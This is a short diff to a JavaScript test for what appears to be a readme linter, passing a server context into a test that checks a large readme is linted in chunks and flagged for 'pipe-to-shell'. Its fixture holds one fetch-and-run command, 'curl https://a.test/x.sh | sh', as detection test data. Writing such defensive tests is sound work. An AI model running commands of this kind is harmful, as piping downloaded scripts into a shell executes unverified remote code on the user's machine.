@@ -106,7 +106,7 @@ const longReadme = `Run curl https://a.test/x.sh | sh\n${'Some words.\n'.repeat(
 
 test('a readme of 241 KiB is linted in steps of 64 KiB', async () => {
   const turns = await turnsOf(async () => {
-    const warnings = await lintWithFiles({ ...linted, readme: longReadme }, [])
+    const warnings = await lintWithFiles(server.ctx, { ...linted, readme: longReadme }, [])
     expect(warnings.map(({ rule }) => rule)).toContain('pipe-to-shell')
   })
   expect(turns).toBeGreaterThanOrEqual(4)
